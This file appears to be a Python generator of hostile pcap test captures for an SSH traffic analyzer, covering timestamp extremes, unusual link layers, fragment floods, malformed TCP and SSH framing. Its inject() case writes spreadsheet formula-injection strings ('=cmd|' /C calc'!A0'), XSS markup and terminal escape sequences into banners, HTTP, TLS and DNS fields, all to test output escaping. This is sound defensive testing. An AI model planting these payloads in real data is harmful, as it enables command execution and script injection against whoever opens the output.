#!/usr/bin/env python3
"""Hostile classes, round 3: attacks made from outside the project's own
view, written at test time. `genr3.py DIR` writes each case below into DIR
as NAME.pcap or NAME.pcapng. tests/hostile/t_round3.sh runs every command
on each under the memory limit and checks what each case's docstring says
must hold."""
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import genmain  # noqa: E402
from gendeceive import ACK, FIN, NEWKEYS, PSH, RST, SYN, Conn, ssh_packet, write  # noqa: E402
from mkcap import csum  # noqa: E402
from genfmt import (BAN_C, BAN_S, CLI, CLI6, KEX, SRV, SRV6, T0, blk, eth, idb, ip4, ip6, kexinit,  # noqa: E402
                    ng, opt, pcap, shb, tcp_seg)


def ssh_session(sp, dp=22, keys=40):
    """One SSH connection to its encrypted part: banners, KEXINITs, NEWKEYS,
    then keys keystroke-sized records from the client each echoed."""
    c = Conn(sp, dp)
    c.handshake()
    c.ssh()
    c.send(False, NEWKEYS)
    c.send(True, NEWKEYS)
    for i in range(keys):
        c.send(True, bytes((i * 7 + k) & 0xFF for k in range(36)))
        c.send(False, bytes((i * 5 + k) & 0xFF for k in range(36)))
    c.close()
    return c


def keyed(c, keys=4):
    """NEWKEYS both ways, keys records each way, FIN: the session's end."""
    c.send(False, NEWKEYS)
    c.send(True, NEWKEYS)
    for i in range(keys):
        c.send(True, bytes(36))
        c.send(False, bytes(36))
    c.close()
    return c


def ng_epb(frame, ts, iface=0):
    return blk(6, struct.pack("<IIIII", iface, ts >> 32, ts & 0xFFFFFFFF, len(frame), len(frame)) + frame)


def time_span():
    """One SSH session (keystrokes) whose packets are dated from 1684
    (if_tsoffset -9e9 s, resolution 1 s) to 2255, and a second one in 1969:
    years of span in one connection. Every command, the windowed view
    (ssh -w 1) and the plots must stay small and quick."""
    c = ssh_session(43001)
    n = len(c.frames)
    off = -9_000_000_000
    res = opt(9, b"\x00") + opt(14, struct.pack("<q", off)) + opt(0, b"")
    blocks = []
    for i, (_, f) in enumerate(c.frames):
        secs = 0 if i < n // 2 else 18_000_000_000  # 1684 then 2255
        blocks.append(ng_epb(f, secs + i))
    d = ssh_session(43002)
    for i, (_, f) in enumerate(d.frames):
        blocks.append(ng_epb(f, -off - 1000 + i))  # 1969-12-31
    return ng(shb(), idb(opts=res), *blocks)


def time_same():
    """An SSH session with keystrokes and 200,000 ACKs after it, every
    frame at the same instant: durations and rates of 0 s (no division
    by zero, no NaN or inf in any output)."""
    c = ssh_session(43003)
    cs, ss = c.seq
    ack = eth(ip4(CLI, SRV, 6, tcp_seg(CLI, SRV, 43003, 22, cs + 1, ss + 1, ACK)))
    frames = [f for _, f in c.frames] + [ack] * 200000
    return pcap([], recs=[(T0, 0, len(f), len(f), f) for f in frames])


def time_classic_span():
    """Classic pcap dated 0 (1970) then 2^32-1 s (2106) inside one SSH
    session with keystrokes."""
    c = ssh_session(43004)
    n = len(c.frames)
    return pcap([], recs=[(0 if i < n // 2 else 0xFFFFFFFF, i, len(f), len(f), f)
                          for i, (_, f) in enumerate(c.frames)])


def modified_pcap(magic=0xA1B2CD34, e="<"):
    """Alexey Kuznetzov's modified pcap (magic 0xa1b2cd34): 24-byte record
    headers (ifindex, protocol, packet type)."""
    c = ssh_session(43005, keys=3)
    out = [struct.pack(e + "IHHiIII", magic, 2, 4, 0, 0, 65535, 1)]
    for i, (t, f) in enumerate(c.frames):
        out.append(struct.pack(e + "IIIIIHBB", T0, i, len(f), len(f), 2, 0x0800, 0, 0) + f)
    return b"".join(out)


def link_null():
    """DLT_NULL and DLT_LOOP frames (one file each, two SSH sessions) with
    the address family in both byte orders and the BSDs' three AF_INET6
    values; an unknown family in between."""
    out = {}
    for name, link in (("link_null", 0), ("link_loop", 108)):
        c = ssh_session(43010, keys=2)
        recs = []
        for i, (_, f) in enumerate(c.frames):
            l3 = f[14:]
            fam = struct.pack("<I" if i % 2 else ">I", 2)
            recs.append(fam + l3)
        recs.append(struct.pack("<I", 0x7FFF) + b"junk")
        for af in (24, 28, 30):
            syn = ip6(CLI6, SRV6, 6, tcp_seg(CLI6, SRV6, 43011 + af, 22, 1, 0, SYN))
            recs.append(struct.pack("<I", af) + syn)
            recs.append(struct.pack(">I", af) + syn)
        recs.append(b"\x02\x00")
        out[name] = pcap(recs, link=link)
    return out


def link_sll():
    """Linux cooked captures: SLL (113) and SLL2 (276) around an SSH
    session, with address lengths 0 and 255, a VLAN-tagged protocol, a
    header cut short, protocol 0x0004 (802.2)."""
    out = {}
    c = ssh_session(43020, keys=2)
    for name, link, two in (("link_sll", 113, False), ("link_sll2", 276, True)):
        recs = []
        for i, (_, f) in enumerate(c.frames):
            alen = (0, 6, 255, 8)[i % 4]
            if two:
                h = struct.pack("!HHIHBB", 0x0800, 0, 2, 1, 4, alen) + b"\0" * 8
            else:
                h = struct.pack("!HHH", 4, 1, alen) + b"\0" * 8 + b"\x08\x00"
            recs.append(h + f[14:])
        syn = ip4(CLI, SRV, 6, tcp_seg(CLI, SRV, 43021, 22, 1, 0, SYN))
        if two:
            recs += [struct.pack("!HHIHBB", 0x8100, 0, 2, 1, 4, 6) + b"\0" * 8 + b"\x00\x05\x08\x00" + syn,
                     struct.pack("!HHIHBB", 0x0004, 0, 2, 1, 4, 6) + b"\0" * 8 + b"\xaa\xaa\x03",
                     b"\x08\x00\x00"]
        else:
            recs += [struct.pack("!HHH", 4, 1, 6) + b"\0" * 8 + b"\x81\x00\x00\x05\x08\x00" + syn,
                     struct.pack("!HHH", 4, 1, 6) + b"\0" * 8 + b"\x00\x04\xaa\xaa",
                     b"\x00\x04\x00"]
        out[name] = pcap(recs, link=link)
    return out


def link_raw():
    """Raw IP (12, 14, 101, 228, 229): IPv4 and IPv6 SSH sessions; version
    nibbles 0, 5 and 15; a zero-length frame; IPv6 under the IPv4-only
    link type and the other way round."""
    out = {}
    c4 = ssh_session(43030, keys=2)
    c6 = Conn(43031, v6=True)
    c6.handshake()
    c6.ssh()
    c6.close()
    for link in (12, 14, 101, 228, 229):
        recs = [f[14:] for _, f in c4.frames] + [f[14:] for _, f in c6.frames]
        recs += [b"\x05" + b"\0" * 30, b"\x00" * 20, b"\xff" * 40, b""]
        out["link_raw%d" % link] = pcap(recs, link=link)
    return out


def pppoe():
    """PPPoE session frames (0x8864) around an SSH session: lengths that
    lie (0, 65535), PPP protocols IPv4, IPv6, LCP, discovery frames
    (0x8863), PPPoE inside 802.1Q inside PPPoE."""
    c = ssh_session(43040, keys=2)
    recs = []
    for i, (_, f) in enumerate(c.frames):
        ip = f[14:]
        ln = (len(ip) + 2, 0, 65535)[i % 3]
        recs.append(f[:12] + b"\x88\x64" + struct.pack("!BBHH", 0x11, 0, 1, ln) + b"\x00\x21" + ip)
    syn = ip4(CLI, SRV, 6, tcp_seg(CLI, SRV, 43041, 22, 1, 0, SYN))
    E = c.frames[0][1][:12]
    recs += [E + b"\x88\x63" + struct.pack("!BBHH", 0x11, 0x09, 0, 4) + b"\x01\x01\x00\x00",
             E + b"\x88\x64" + struct.pack("!BBHH", 0x11, 0, 1, 2) + b"\xc0\x21",
             E + b"\x88\x64" + struct.pack("!BBHH", 0x11, 0, 1, 100) + b"\x81\x00" + b"\x00\x05\x88\x64" + syn,
             E + b"\x88\x64" + struct.pack("!BBHH", 0x11, 0, 1, 4) + b"\x00",
             E + b"\x88\x64"]
    return pcap(recs)


def jumbo():
    """IPv6 jumbograms (RFC 2675): payload length 0 and a hop-by-hop
    Jumbo Payload option claiming 70,000 and 2^32-1 bytes around a SYN; a
    Jumbo option with payload length set; a jumbogram inside a fragment."""
    seg = tcp_seg(CLI6, SRV6, 43050, 22, 1, 0, SYN, b"x" * 20)
    out = []
    for jl in (70000, 0xFFFFFFFF, len(seg) + 8, 0):
        hbh = struct.pack("!BBBBI", 6, 0, 0xC2, 4, jl)
        out.append(eth(struct.pack("!IHBB16s16s", 6 << 28, 0, 0, 64, CLI6, SRV6) + hbh + seg, 0x86DD))
    hbh = struct.pack("!BBBBI", 6, 0, 0xC2, 4, 70000)
    out.append(eth(struct.pack("!IHBB16s16s", 6 << 28, len(hbh + seg), 0, 64, CLI6, SRV6) + hbh + seg, 0x86DD))
    fr = struct.pack("!BBHI", 0, 0, 1, 9) + hbh + seg
    out.append(eth(struct.pack("!IHBB16s16s", 6 << 28, 0, 44, 64, CLI6, SRV6) + fr, 0x86DD))
    return pcap(out)


def frag_flood(n=100000):
    """One IPv4 datagram (id 77) sent as n 8-byte fragments cycling over
    the first 64 KiB, never completed, and n more datagrams (distinct ids)
    each with one fragment: time and memory must stay bounded."""
    out = []
    for k in range(n):
        off = k % 8000
        out.append(eth(ip4(CLI, SRV, 6, bytes([k & 0xFF]) * 8, ident=77, frag=off, more=True)))
    for k in range(n):
        out.append(eth(ip4(CLI, bytes([10, 8, k >> 16 & 0xFF, k >> 8 & 0xFF]), 6, b"q" * 8,
                           ident=k & 0xFFFF, frag=0, more=True)))
    return pcap(out)


def tcp_odd():
    """TCP the state machine may not expect: SYN+FIN with data; an SSH
    banner carried on the SYN and the SYN-ACK (TCP Fast Open); a RST
    carrying text (Linux's reset reason); a simultaneous open (two SYNs
    crossing, then two SYN-ACKs); an urgent pointer past the payload."""
    out = []
    a = Conn(43060)
    a.pkt(True, 1000, 0, SYN | FIN, b"synfin-data")
    a.pkt(False, 5000, 1001, RST | ACK)
    b = Conn(43061)
    b.pkt(True, 1000, 0, SYN, BAN_C)
    b.pkt(False, 5000, 1001 + len(BAN_C), SYN | ACK, BAN_S)
    b.seq = [1001 + len(BAN_C), 5001 + len(BAN_S)]
    b.pkt(True, b.seq[0], b.seq[1], ACK)
    b.send(True, kexinit(KEX))
    b.send(False, kexinit(KEX))
    b.pkt(True, b.seq[0], b.seq[1], RST | ACK, b"Connection reset by peer: \x1b[2J reason")
    c = Conn(43062)
    c.pkt(True, 1000, 0, SYN)
    c.pkt(False, 5000, 0, SYN)
    c.pkt(True, 1000, 5001, SYN | ACK)
    c.pkt(False, 5000, 1001, SYN | ACK)
    c.seq = [1001, 5001]
    c.ssh()
    c.close()
    out = a.frames + b.frames + c.frames
    d = Conn(43063, dp=80)
    d.handshake()
    cs, ss = d.seq
    seg = tcp_seg(CLI, SRV, 43063, 80, cs, ss, ACK | PSH | 0x20, b"GET / HTTP/1.1\r\n\r\n")
    seg = seg[:16] + b"\0\0" + struct.pack("!H", 60000) + seg[20:]  # urgent pointer, checksum again
    seg = seg[:16] + struct.pack("!H", csum(CLI + SRV + struct.pack("!BBH", 0, 6, len(seg)) + seg)) + seg[18:]
    out += d.frames + [(d.t + 0.01, eth(ip4(CLI, SRV, 6, seg)))]
    return sorted(out, key=lambda x: x[0])


def ssh_framing():
    """SSH binary packets that break RFC 4253 section 6 before NEWKEYS:
    packet lengths not a multiple of 8, padding longer than the packet,
    padding below 4, a KEXINIT whose name-list count claims 2^32-1; the
    banner in 1-byte segments; 10,000 pre-banner lines."""
    out = {}
    k = kexinit(KEX)
    odd = struct.pack("!IB", len(k) - 4 + 3, k[4]) + k[5:] + b"\0\0\0"
    padbig = struct.pack("!IB", 12, 200) + b"\x14" + b"\0" * 10
    padsmall = struct.pack("!IB", 12, 0) + b"\x14" + b"\0" * 10
    names = bytes([20]) + b"\x11" * 16 + struct.pack("!I", 0xFFFFFFFF) + b"abc"
    hugen = struct.pack("!IB", 1 + len(names) + 4, 4) + names + b"\0" * 4
    c = Conn(43070)
    c.handshake()
    c.send(False, BAN_S + odd + padbig)
    c.send(True, BAN_C + padsmall + hugen + k)
    c.close()
    out["ssh_framing"] = write(c.frames)
    d = Conn(43071)
    d.handshake()
    d.send(False, BAN_S + k, mss=1)
    d.send(True, BAN_C + k, mss=1)
    d.close()
    out["ssh_banner_1byte"] = write(d.frames)
    e = Conn(43072)
    e.handshake()
    e.send(False, b"".join(b"line %d\r\n" % i for i in range(10000)) + BAN_S + k, mss=1460)
    e.send(True, BAN_C + k)
    e.close()
    out["ssh_prebanner_10k"] = write(e.frames)
    return out


EVIL = b"=HYPERLINK(\"http://x/\"&A1)\x1b]8;;http://evil/\x1b\\<img src=x onerror=alert(1)>"


def client_hello(sni, alpn):
    """A TLS 1.2 ClientHello record naming sni and offering alpn."""
    name = struct.pack("!BH", 0, len(sni)) + sni
    ext = struct.pack("!HHH", 0, len(name) + 2, len(name)) + name
    proto = bytes([len(alpn)]) + alpn
    ext += struct.pack("!HHH", 16, len(proto) + 2, len(proto)) + proto
    body = b"\x03\x03" + b"\x22" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += struct.pack("!H", len(ext)) + ext
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def inject():
    """Injection through every capture string reaching the outputs: banners
    starting with = + - @ and a tab, HTML markup and OSC 8 hyperlinks in
    banners, algorithm names, an HTTP host, a TLS server name and ALPN and
    DNS names (A and TXT): CSV cells never start a formula, HTML never carries
    markup from the capture, terminals get no escape."""
    frames = []
    for i, lead in enumerate((b"=", b"+", b"-", b"@", b"\t=", b"\r=")):
        c = Conn(43080 + i)
        c.handshake()
        ev = lead + EVIL
        c.ssh(sban=b"SSH-2.0-" + ev + b"\r\n", cban=b"SSH-2.0-" + ev + b"\r\n",
              skex=[ev] * 10, ckex=[ev] * 10)
        c.send(False, NEWKEYS)
        c.send(True, NEWKEYS)
        c.close()
        frames += [(t + i, f) for t, f in c.frames]
    w = Conn(43090, dp=80)
    w.handshake()
    w.send(True, b"GET /" + EVIL + b" HTTP/1.1\r\nHost: =cmd|' /C calc'!A0\r\nUser-Agent: " + EVIL + b"\r\n\r\n")
    w.send(False, b"HTTP/1.1 200 OK\r\nServer: @SUM(1+1)*cmd|' /C calc'!A0\r\nContent-Length: 2\r\n\r\nok")
    w.close()
    frames += [(t + 10, f) for t, f in w.frames]
    t = Conn(43092, dp=443)
    t.handshake()
    t.send(True, client_hello(b"=cmd|' /C calc'!A0\x1b]0;pwn\x07<b>.example", b"h2\x1b[2J=1+1"))
    t.close()
    frames += [(tt + 15, f) for tt, f in t.frames]
    q = struct.pack("!HHHHHH", 0x1234, 0x8180, 1, 2, 0, 0)
    name = b"".join(bytes([len(x)]) + x for x in (b"=cmd|' /C calc'!A0", b"<b>x</b>", b"\x1b[31m", b"com")) + b"\0"
    txt = b"=2+5+cmd|' /C calc'!A0 <script>" + b"\x1b]0;t\x07"
    ans = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x05\x00\x04\x01\x02\x03\x04"
    ans += b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x00\x05" + struct.pack("!HB", len(txt) + 1, len(txt)) + txt
    msg = q + name + b"\x00\x01\x00\x01" + ans
    udp = struct.pack("!HHHH", 53, 43091, 8 + len(msg), 0) + msg
    qq = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + b"\x00\x01\x00\x01"
    udpq = struct.pack("!HHHH", 43091, 53, 8 + len(qq), 0) + qq
    frames.append((T0 + 20, eth(ip4(CLI, SRV, 17, udpq))))
    frames.append((T0 + 20.01, eth(ip4(SRV, CLI, 17, udp))))
    return sorted(frames, key=lambda x: x[0])


def ng_more():
    """pcapng corners not yet covered: a Decryption Secrets Block (SSH
    keys, 0x0A) and a custom block between packets; an interface whose
    snaplen is 0; an EPB whose captured length passes its interface's
    snaplen; if_tsresol 10^-19 and 2^-1; an EPB with 64 KiB of options
    (epb_flags, epb_hash, comments with escapes); an SHB with a section
    length of 0 and options (a 60 KiB shb_userappl with escapes)."""
    c = ssh_session(43100, keys=2)
    fr = [f for _, f in c.frames]
    dsb = blk(0x0A, struct.pack("<II", 0x5353484B, 40) + b"X" * 40)
    cust = blk(0x00000BAD, struct.pack("<I", 32473) + b"custom")
    epbopts = opt(2, struct.pack("<I", 1)) + opt(3, b"\x02" + b"h" * 16) + opt(1, b"\x1b]0;pwn\x07" * 100) * 80 + opt(0, b"")
    sh = blk(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, 0) + opt(4, b"\x1b[2J" + b"A" * 60000) + opt(0, b""))
    ifs = [idb(opts=struct.pack("<HH", 0, 0)), idb(opts=opt(9, b"\x13") + opt(0, b"")), idb(opts=opt(9, b"\x81") + opt(0, b""))]
    ifs[0] = blk(1, struct.pack("<HHI", 1, 0, 0))
    blocks = [sh, *ifs]
    for i, f in enumerate(fr):
        blocks.append(ng_epb(f, T0 * 10**6 + i * 1000, 0))
        if i == 3:
            blocks += [dsb, cust]
        if i == 5:
            e = struct.pack("<IIIII", 0, 0, 0, len(f), len(f)) + f
            e += b"\0" * (-len(e) % 4) + epbopts
            blocks.append(blk(6, e))
    blocks.append(ng_epb(fr[0], 10**19 + 5, 1))
    blocks.append(ng_epb(fr[0], 3400000001, 2))
    return ng(*blocks)


def many_files(d, n=1500):
    """n rotated files of one SYN each in directory d: every file is open
    at once (merged in time order), so the memory and the descriptors one
    file takes are multiplied by n. Every SYN must be read under a 1 GB
    limit and a soft limit of 256 descriptors."""
    os.makedirs(d, exist_ok=True)
    for i in range(n):
        syn = eth(ip4(CLI, SRV, 6, tcp_seg(CLI, SRV, 20000 + i, 22, 1, 0, SYN)))
        with open(os.path.join(d, "rot%04d.pcap" % i), "wb") as fh:
            fh.write(pcap([], recs=[(T0 + i, 0, len(syn), len(syn), syn)]))


def main():
    if sys.argv[1] == "many":
        many_files(sys.argv[2])
        return
    d = sys.argv[1]
    os.makedirs(d, exist_ok=True)
    files = {"time_span.pcapng": time_span(), "time_same.pcap": time_same(),
             "time_classic_span.pcap": time_classic_span(), "modified.pcap": modified_pcap(),
             "modified_be.pcap": modified_pcap(e=">"), "pppoe.pcap": pppoe(), "jumbo.pcap": jumbo(),
             "frag_flood.pcap": frag_flood(), "tcp_odd.pcap": write(tcp_odd()), "inject.pcap": write(inject()),
             "ng_more.pcapng": ng_more()}
    for grp in (link_null(), link_sll(), link_raw(), ssh_framing()):
        for k, v in grp.items():
            files[k + ".pcap"] = v
    only = sys.argv[2:]
    genmain.write_files(d, {k: v for k, v in files.items() if not only or k.split(".")[0] in only})


if __name__ == "__main__":
    main()
